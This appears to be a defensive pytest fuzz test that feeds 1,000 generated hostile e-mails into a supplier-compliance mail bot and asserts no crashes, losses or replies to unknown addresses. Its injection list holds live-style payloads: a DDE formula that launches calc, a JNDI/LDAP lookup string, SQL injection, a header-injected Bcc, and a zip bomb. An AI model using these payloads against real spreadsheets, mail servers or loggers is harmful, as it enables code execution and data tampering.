"""Issue 11 acceptance: 1,000 generated hostile e-mails (seeded generator: MIME damage, forged headers, bombs,
injections) through the real inbound path (``InboundProcessor.process`` on a migrated SQLite store, the real outbox
writing into a local Maildir): 0 crashes, 0 lost e-mails, 0 e-mails to addresses outside the known contacts.
"""

from __future__ import annotations

import io
import logging
import pathlib
import random
import time
import zipfile
from email.message import EmailMessage

import pytest
import sqlalchemy as sa

from cmrt.workbook.factory import build_cmrt
from handlers.inbound import InboundOptions, InboundProcessor
from handlers.mail_store import StoreOutboxRepository
from handlers.outreach_mail import MailOutreach, SenderIdentity, record_sent
from mail.attachments import AttachmentLimits
from mail.compose import MailTemplates
from mail.maildir_out import MaildirSender
from mail.outbox import Outbox
from store import Database
from store import messages as message_repo
from store.models import Contact, Message, OutboxItem
from store.states import Direction
from tests.adapters.mail.support import Seeded, seed_request
from tests.unit.mail.helpers import XLSX

log = logging.getLogger("cmbot.test.fuzz")

BOT = "bot@buyer.test"
AUTHSERV = "mx.buyer.test"
N = 1000
INJECTIONS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.test\",\"x\")", "+1+1", "@SUM(1)", "*bold* _it_ ~s~ `c`",
    "<!channel> <http://evil.test|click>", "\u202eevil\u202c", "\r\nBcc: victim@evil.test", "\x1b[31mred\x1b[0m",
    "_x001B_[2J", "A" * 5000, "中文 Ünïcödé", "'; DROP TABLE messages; --", "${jndi:ldap://evil.test/a}",
]  # fmt: skip


def _zip_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("cmrt.xlsx", b"\0" * (30 * 1024 * 1024))
    return buf.getvalue()


class Generator:
    def __init__(self, rnd: random.Random, seeded: list[Seeded], workbooks: list[bytes]) -> None:
        self.rnd, self.seeded, self.workbooks = rnd, seeded, workbooks
        self.bomb = _zip_bomb()
        self.ids: list[str] = []

    def pick(self, *options: object) -> object:
        return self.rnd.choice(options)

    def sender(self, target: Seeded) -> str:
        r = self.rnd
        return str(self.pick(
            target.contact, f"colleague@{target.contact.split('@')[1]}", f"eve{r.randrange(99)}@evil.test",
            "someone@gmail.com", f'"{target.contact}" <eve@evil.test>', "<>", "", "a@b@c", "MAILER-DAEMON@mx.test",
            f"{target.contact}, eve@evil.test", self.rnd.choice(INJECTIONS),
        ))  # fmt: skip

    def message(self, n: int) -> bytes:
        r = self.rnd
        target = r.choice(self.seeded)
        msg = EmailMessage()
        headers: list[tuple[str, str]] = [("From", self.sender(target)), ("To", BOT)]
        token = str(self.pick(target.token, "ZZZZZZZZ", target.token.lower(), ""))
        subject = str(self.pick("Re: CMRT", "Our CMRT", "Out of office", r.choice(INJECTIONS), "=?utf-8?b?////?="))
        headers.append(("Subject", f"{subject} [CMRT-{token}]" if token and r.random() < 0.6 else subject))
        if r.random() < 0.9:
            reused = self.ids and r.random() < 0.1
            mid = r.choice(self.ids) if reused else f"<fz{n}.{r.randrange(10**9)}@fuzz.test>"
            self.ids.append(mid)
            headers.append(("Message-ID", mid))
        if r.random() < 0.3:
            headers.append(("Reply-To", str(self.pick("eve@evil.test", target.contact, "x", r.choice(INJECTIONS)))))
        if r.random() < 0.2:
            headers.append(("In-Reply-To", str(self.pick(f"<cmbot.{target.token}.00@buyer.test>", "<x@y>", "<<>>"))))
        if r.random() < 0.1:
            headers.append(("References", " ".join(f"<r{i}@x.test>" for i in range(r.randrange(1, 400)))))
        for name, value in (("Precedence", "bulk"), ("List-Id", "<l.x>"), ("X-Autoreply", "yes"),
                            ("Auto-Submitted", "auto-replied"), ("Return-Path", "<>"),
                            ("X-Auto-Response-Suppress", "All")):  # fmt: skip
            if r.random() < 0.05:
                headers.append((name, value))
        if r.random() < 0.4:
            verdict = str(self.pick("dmarc=pass", "dmarc=fail", "spf=fail; dkim=none", "spf=pass", "none"))
            server = AUTHSERV if r.random() < 0.7 else "mx.evil.test"
            headers.append(("Authentication-Results", f"{server}; {verdict}"))
        body = str(self.pick("Please find our CMRT attached.", r.choice(INJECTIONS), "", "x" * 20000))
        msg.set_content(body)  # the headers above are written raw, as an attacker would (line breaks included)
        for _ in range(r.choice((0, 1, 1, 1, 2))):
            kind = r.random()
            if kind < 0.12:
                data, name = r.choice(self.workbooks), "cmrt.xlsx"
            elif kind < 0.25:
                data, name = self.bomb, "cmrt.zip"
            elif kind < 0.45:
                data, name = r.randbytes(r.randrange(1, 4000)), str(self.pick("cmrt.xlsx", "x.xls", "a.zip", "b.pdf"))
            elif kind < 0.6:
                good = r.choice(self.workbooks)
                data, name = good[: r.randrange(1, len(good))], "truncated.xlsx"
            else:
                data, name = r.choice(INJECTIONS).encode(), f"{r.choice(INJECTIONS)[:40]}.xlsx".replace("\r\n", " ")
            maintype, _, subtype = XLSX.partition("/")
            msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
        raw = self._raw_headers(headers) + msg.as_bytes()
        return self.damage(raw)

    @staticmethod
    def _raw_headers(headers: list[tuple[str, str]]) -> bytes:
        return b"".join(f"{k}: {v}\r\n".encode("utf-8", "replace") for k, v in headers)

    def damage(self, raw: bytes) -> bytes:
        r = self.rnd
        roll = r.random()
        if roll < 0.08:
            return raw[: r.randrange(1, max(2, len(raw)))]  # cut anywhere
        if roll < 0.12:
            return raw.replace(b"\n", b"\r", r.randrange(1, 20))  # bare CRs
        if roll < 0.15:
            return raw.replace(b"--", b"", 3)  # boundaries broken
        if roll < 0.18:
            return b"Content-Type: multipart/mixed; boundary=\xff\xfe\r\n" + raw  # raw bytes in a header
        if roll < 0.2:
            return r.randbytes(r.randrange(0, 300))  # noise
        if roll < 0.22:
            return b"X-Deep: 1\r\n" + b"Content-Type: multipart/mixed; boundary=a\r\n\r\n" + b"--a\r\n" * 3000
        return raw


@pytest.mark.slow
def test_a_thousand_hostile_emails(mail_db: Database, tmp_path: pathlib.Path) -> None:
    rnd = random.Random(20261202)
    seeded = [
        seed_request(mail_db, f"anna@supplier{i}.test", name=f"Supplier {i} Metals Ltd", external_id=f"S-{i}")
        for i in range(3)
    ]
    workbooks = [build_cmrt(company_name=s.supplier_name) for s in seeded] + [build_cmrt(company_name="=1+1")]
    outbox = Outbox(StoreOutboxRepository(mail_db, mail_from=BOT), MaildirSender(tmp_path / "sent"),
                    on_sent=record_sent(mail_db), sleep=lambda _s: None)  # fmt: skip
    outreach = MailOutreach(
        mail_db, outbox, templates=MailTemplates(),
        sender=SenderIdentity(from_address=BOT, sender_company="Buyer Corp", sender_name="Compliance Team"),
    )  # fmt: skip
    options = InboundOptions(
        own_addresses=(BOT,), trusted_authserv_id=AUTHSERV, max_acks_per_request=3,
        attachment_limits=AttachmentLimits(max_attachment_bytes=2 * 1024 * 1024),
    )  # fmt: skip
    processor = InboundProcessor(mail_db, outreach=outreach, options=options, sleep=lambda _s: None)
    generator = Generator(rnd, seeded, workbooks)
    started = time.monotonic()
    crashes: list[str] = []
    handled: list[tuple[str, bytes]] = []
    for n in range(N):
        raw = generator.message(n)
        try:
            outcome = processor.process(raw, folder="INBOX", uid=n + 1)
        except Exception as exc:  # a crash: the e-mail would stay in the inbox forever
            crashes.append(f"{n}: {type(exc).__name__}: {exc}"[:300])
            continue
        handled.append((outcome.message_id, raw))
    elapsed = time.monotonic() - started
    assert crashes == []
    with mail_db.session() as s:
        digest = message_repo.message_digest
        lost = [mid for mid, raw in handled if message_repo.get_by_key(s, mid, digest(raw)) is None]
        assert lost == []
        stored = s.scalar(sa.select(sa.func.count()).select_from(Message).where(Message.direction == Direction.IN))
        assert stored == len({(mid, digest(raw)) for mid, raw in handled})
        known = {c.lower() for c in s.scalars(sa.select(Contact.email))}
        recipients = {a.lower() for a in s.scalars(sa.select(OutboxItem.to_address))}
        per_request = s.execute(
            sa.select(OutboxItem.request_id, sa.func.count())
            .where(OutboxItem.kind.in_(["acknowledgment", "already_received"]))
            .group_by(OutboxItem.request_id)
        ).all()  # fmt: skip
    assert recipients <= known, recipients - known
    assert all(count <= 3 for _rid, count in per_request), per_request
    log.info("%d hostile e-mails in %.1f s", N, elapsed)  # about 50 s of CPU; speed is not asserted here
